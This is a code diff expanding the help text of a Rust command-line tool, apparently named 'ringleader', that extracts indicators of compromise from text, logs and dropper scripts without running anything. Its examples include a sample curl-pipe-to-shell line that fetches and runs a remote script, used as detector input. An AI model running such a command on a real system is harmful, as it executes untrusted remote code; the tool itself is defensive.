@@ -65,7 +65,17 @@ Examples:
         json: bool,
     },
     /// Find the indicators in each line of text; NDJSON out
-    #[command(after_long_help = "Example:\n  echo 'curl -s http://192.0.2.7/x.sh | sh' | ringleader extract")]
+    #[command(
+        after_long_help = "Each line of input gives one line of output, at once: {\"line\": its number, \"indicators\": [{kind, value, context,
+decoded}]}. Commands are read as a shell would read them and nothing is run; what is encoded, packed or hidden is read too,
+and marked as decoded. docs/indicators.md has the kinds, the contexts and what is left out.
+
+Examples:
+  echo 'curl -s http://192.0.2.7/x.sh | sh' | ringleader extract
+  ringleader extract dropper.sh | jq -r '.indicators[] | select(.context == \"downloaded\") | .value' | sort -u
+  tail -f /var/log/auth.log | ringleader extract
+  zcat access.log.gz | ringleader extract | jq -c 'select(.indicators != [])'"
+    )]
     Extract {
         /// A text file; standard input where there is none
         file: Option<PathBuf>,
